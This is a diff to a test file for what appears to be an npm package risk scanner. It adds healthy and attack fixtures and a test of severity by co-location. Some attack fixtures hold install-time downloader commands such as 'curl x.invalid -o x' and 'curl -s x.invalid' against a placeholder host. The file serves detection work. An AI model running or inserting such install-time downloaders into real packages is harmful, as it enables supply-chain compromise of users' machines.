@@ -51,6 +51,11 @@ HEALTHY = {
     "eval alone": [use("global:eval", "code")],
     "encrypts": [use("global:eval", "code"), use("builtin:crypto.createHash")],
     "builds itself": [script("node-gyp rebuild"), use("builtin:child_process.spawn", "process", "lib.js:1")],
+    "commands that build": [
+        script("prebuild-install || node-gyp rebuild"),
+        use("global:fetch", "network", "package.json:4:4:prebuild-install"),
+        use("builtin:child_process", "process", "package.json:4:4:node-gyp rebuild"),
+    ],
     "says thank you": [script("node thanks.js"), use("builtin:fs.existsSync", "filesystem-read", "thanks.js:1")],
     "a fetch polyfill": [use("write:globalThis.fetch", "primordials", guarded=True)],
     "another polyfill": [use("write:Array.prototype.flat", "primordials")],
@@ -95,6 +100,10 @@ ATTACKS = {
     "install script starts a downloader": [
         script("node ./setup"),
         use("builtin:child_process.exec", "process", "setup.js:2", literals=["curl x.invalid -o x"]),
+    ],
+    "binding.gyp downloads": [
+        use("script:gyp", "install", "binding.gyp:1:1"),
+        use("global:fetch", "network", "binding.gyp:3:9:curl -s x.invalid"),
     ],
     "wraps fetch": [use("write:globalThis.fetch", "primordials"), use("global:fetch", "network")],
     "wraps requests": [use("write:XMLHttpRequest.prototype.open", "primordials")],
@@ -147,3 +156,13 @@ def test_what_install_scripts_load_counts() -> None:
     reached = judged(*uses, install_files=("lib/x.js", "setup.js"))
     assert [finding.message for finding in reached if "at install" in finding.message]
     assert not [finding.message for finding in judged(*uses) if "at install" in finding.message]
+
+
+def test_among_many_files_powers_must_stand_in_one() -> None:
+    files = [f"lib/{number}.js" for number in range(50)]
+    apart = [use(*SEND, "lib/1.js:1"), use("builtin:child_process.exec", "process", "lib/2.js:1")]
+    (mild,) = judged(script("node lib/1"), *apart, install_files=tuple(files))
+    assert mild.severity == "moderate"
+    near = [apart[0], use("builtin:child_process.exec", "process", "lib/1.js:9")]
+    (loud,) = judged(script("node lib/1"), *near, install_files=tuple(files))
+    assert loud.severity == "high"
